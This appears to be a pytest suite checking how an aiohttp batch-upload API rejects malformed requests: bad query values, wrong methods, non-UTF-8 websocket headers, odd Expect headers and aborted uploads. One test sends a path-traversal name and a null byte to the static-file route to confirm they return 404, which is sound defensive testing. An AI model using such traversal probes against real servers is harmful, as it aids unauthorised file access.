    ("/events?after=%D9%A3", "after", "Not a valid integer."),  # an Arabic-Indic 3
    ("/batch?limit=1_0", "limit", "Not a valid integer."),
    ("/ws?after=%200%20", "after", "after must be an integer"),
    ("/batch/{id}/results.csv?only=everything", "only", "Must be one of: failed."),
    ("/ws?after=x", "after", "after must be an integer"),
    ("/ws?after=-1", "after", "after must be an integer"),
]


@pytest.mark.parametrize(("path", "name", "says"), BAD_QUERIES, ids=[q[0] for q in BAD_QUERIES])
async def test_a_bad_query_value_is_refused_naming_the_parameter(
    service: Service, path: str, name: str, says: str
) -> None:
    status, body = await service.get(path.format(id=UNKNOWN))
    assert status == 422, body
    [problem] = body["detail"]
    assert problem["loc"] == ["query", name]
    assert says in problem["msg"]
    await assert_nothing_stored(service)


WRONG_METHODS = [
    ("GET", "/batch/upload-csv"),
    ("PUT", "/batch/upload-csv"),
    ("GET", "/batch/validate-csv"),
    ("GET", "/hospitals/bulk"),
    ("POST", "/batch"),
    ("GET", "/batch/{id}"),
    ("PATCH", "/batch/{id}/status"),
    ("GET", "/batch/{id}/resume"),
    ("DELETE", "/events"),
    ("POST", "/health"),
]


@pytest.mark.parametrize(
    ("method", "path"), WRONG_METHODS, ids=[" ".join(m) for m in WRONG_METHODS]
)
async def test_a_wrong_method_is_405_with_allow(service: Service, method: str, path: str) -> None:
    async with service.http.request(method, service.url + path.format(id=UNKNOWN)) as r:
        body = await r.json()
    assert r.status == 405
    assert body == {"detail": "Method Not Allowed"}
    assert r.headers["Allow"]
    assert method not in r.headers["Allow"].split(",")
    await assert_nothing_stored(service)


@pytest.mark.parametrize(
    "path", ["/nope", "/batches", "/hospitals", "/batch/upload-csv/extra", f"/batch/{UNKNOWN}/x"]
)
async def test_an_unknown_path_is_404(service: Service, path: str) -> None:
    status, body = await service.get(path)
    assert (status, body) == (404, {"detail": "Not Found"})
    await assert_nothing_stored(service)


async def test_a_websocket_route_without_upgrade_is_400(service: Service) -> None:
    status, body = await service.get("/ws")
    assert status == 400
    assert "websocket" in body["detail"].lower()
    await assert_nothing_stored(service)


# Headers outside the body ----------------------------------------------------------------------


async def answer_to(service: Service, request: bytes) -> tuple[int, bytes]:
    """Send bytes, read one answer (head and Content-Length body) whether or not the
    connection stays open; (status, answer)."""
    url = URL(service.url)
    reader, writer = await asyncio.open_connection(url.host, url.port)
    try:
        writer.write(request)
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
        length = re.search(rb"\r\nContent-Length: (\d+)\r\n", head, re.IGNORECASE)
        body = await reader.readexactly(int(length[1])) if length else b""
    finally:
        writer.close()
        await writer.wait_closed()
    return int(head.split(b" ", 2)[1]), head + body


def handshake(header: bytes) -> bytes:
    """A websocket handshake on /ws with one header line replaced or added, as bytes."""
    lines = {
        b"Upgrade": b"websocket",
        b"Connection": b"Upgrade",
        b"Sec-WebSocket-Key": b"dGhlIHNhbXBsZSBub25jZQ==",
        b"Sec-WebSocket-Version": b"13",
    }
    name, _, value = header.partition(b": ")
    lines[name] = value
    fields = b"".join(k + b": " + v + b"\r\n" for k, v in lines.items())
    return b"GET /ws HTTP/1.1\r\nHost: test\r\n" + fields + b"\r\n"


@pytest.mark.parametrize(
    "header",
    [
        pytest.param(b"Upgrade: websock\xe9t", id="upgrade-not-utf8"),
        pytest.param(b"Connection: \xff", id="connection-not-utf8"),
        pytest.param(b"Sec-WebSocket-Version: 1\xe9", id="version-not-utf8"),
        pytest.param("Sec-WebSocket-Key: clé".encode(), id="key-not-ascii"),
        pytest.param(b"Sec-WebSocket-Key: \xe9\xe9", id="key-not-utf8"),
    ],
)
async def test_a_websocket_handshake_header_that_is_not_text_is_400(
    service: Service, header: bytes, caplog: pytest.LogCaptureFixture
) -> None:
    status, answer = await answer_to(service, handshake(header))
    assert status == 400, answer
    assert b"this route is a websocket" in answer
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
    await assert_nothing_stored(service)


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/health"),
        ("POST", "/batch/upload-csv"),
        ("GET", "/docs"),
        ("GET", "/redoc"),
        ("GET", "/no-such-path"),  # 404: no route, aiohttp's own SystemRoute
        ("POST", "/health"),  # 405: the same
    ],
)
@pytest.mark.parametrize("expect", [b"\xe9", b"100-continue\xff", b"102-processing"])
async def test_an_unknown_expect_header_is_417_in_the_api_shape(
    service: Service, method: str, path: str, expect: bytes
) -> None:
    request = (
        (
            f"{method} {path} HTTP/1.1\r\nHost: test\r\nConnection: close\r\nContent-Length: 0\r\n"
        ).encode()
        + b"Expect: "
        + expect
        + b"\r\n\r\n"
    )
    status, answer = await exchange(service, request)
    assert status == 417, answer
    assert b'{"detail": "unknown Expect: ' in answer
    assert re.search(rb"\r\nX-Request-ID: [0-9a-f]{32}\r\n", answer, re.IGNORECASE)
    await assert_nothing_stored(service)


async def test_expect_100_continue_still_gets_its_100(service: Service) -> None:
    request = raw_post("/batch/validate-csv", multipart(file_part(GOOD)), b"Expect: 100-continue")
    status, answer = await exchange(service, request)
    assert status == 100
    assert b"\r\n\r\nHTTP/1.1 200 OK\r\n" in answer
    await assert_nothing_stored(service)


@pytest.mark.parametrize("folder", ["redoc", "swagger"])
@pytest.mark.parametrize("name", ["nothing.js", "a" * 300, "", "..%2F..%2Fpyproject.toml", "%00"])
async def test_a_static_name_the_pages_do_not_load_is_the_apis_404(
    service: Service, folder: str, name: str, caplog: pytest.LogCaptureFixture
) -> None:
    status, body = await service.get(f"/static/{folder}/{name}")
    assert (status, body) == (404, {"detail": "Not Found"})
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
    await assert_nothing_stored(service)


@pytest.mark.parametrize("path", INTAKE)
async def test_a_client_that_leaves_mid_upload_is_not_logged_as_an_error(
    service: Service, path: str, caplog: pytest.LogCaptureFixture
) -> None:
    body = multipart(file_part(GOOD))
    request = raw_post(path, body)[: -len(body) // 2]  # Content-Length promises all of it
    url = URL(service.url)
    _, writer = await asyncio.open_connection(url.host, url.port)
    writer.write(request)
    await writer.drain()
    await asyncio.sleep(0.2)
    writer.close()
    await writer.wait_closed()
    await asyncio.sleep(0.3)
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
    await assert_nothing_stored(service)


async def test_a_client_that_leaves_mid_upload_leaves_nothing_behind_in_a_cycle(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    # aiohttp keeps the "connection lost" error on the request's body and raises that one
    # object to the reader: its traceback held the reading frames, with the request and the
    # file read so far (up to csv.max_bytes), in a cycle only a full collection frees.
    requests: list[weakref.ref[Any]] = []
    read_upload = upload_module._read_upload

    async def noting_the_request(request: Any, *args: Any) -> upload_module.Upload:
        requests.append(weakref.ref(request))
        return await read_upload(request, *args)

    monkeypatch.setattr(upload_module, "_read_upload", noting_the_request)
    body = multipart(file_part(GOOD * 2000))
    url = URL(service.url)
    with without_collections():
        _, writer = await asyncio.open_connection(url.host, url.port)
        writer.write(raw_post("/batch/upload-csv", body)[: -len(body) // 2])
        await writer.drain()
        await asyncio.sleep(0.2)
        writer.transport.abort()
        await asyncio.sleep(0.3)
        assert len(requests) == 1
        assert requests[0]() is None
    await assert_nothing_stored(service)
